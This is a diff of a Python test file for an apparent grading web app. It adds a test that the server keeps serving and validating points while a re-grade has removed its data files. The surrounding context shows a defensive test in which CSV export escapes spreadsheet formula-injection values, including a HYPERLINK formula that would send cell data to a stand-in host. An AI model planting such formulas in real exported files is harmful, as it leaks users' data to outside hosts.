@@ -450,3 +450,20 @@ def test_rubric_stats_csv_runs_no_formula_a_rubric_item_holds(tmp_path):
         texts = [r[3] for r in list(csv.reader(io.StringIO(body)))[1:]]
         assert texts == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1)", "'+1 plot", "''quoted"]
         assert [csvcells.cell_text(t) for t in texts][0] == '=HYPERLINK("http://x/?"&A1)'
+
+
+def test_course_mark_keeps_serving_while_a_regrade_has_removed_grades_csv(tmp_path):
+    """A re-grade removes grades.csv and questions.json before it writes them again (red team 2
+    F11): the server answered 500 meanwhile; it serves the last state it read, and checks typed
+    points against the points it last read."""
+    out = graded(tmp_path)
+    c = client(out)
+    before = c.get("/api/q/q4").get_json()
+    for name in ("grades.csv", "questions.json"):
+        (out / name).rename(tmp_path / name)
+    assert c.get("/api/q/q4").get_json()["answers"] == before["answers"]
+    assert save(c, 0, {"version": 0, "points": "2"}).status_code == 400          # still worth 1
+    assert save(c, 0, {"version": 0, "points": "1"}).status_code == 200
+    for name in ("grades.csv", "questions.json"):
+        (tmp_path / name).rename(out / name)
+    assert c.get("/api/q/q4").get_json()["answers"][0]["grade"] == 1.0
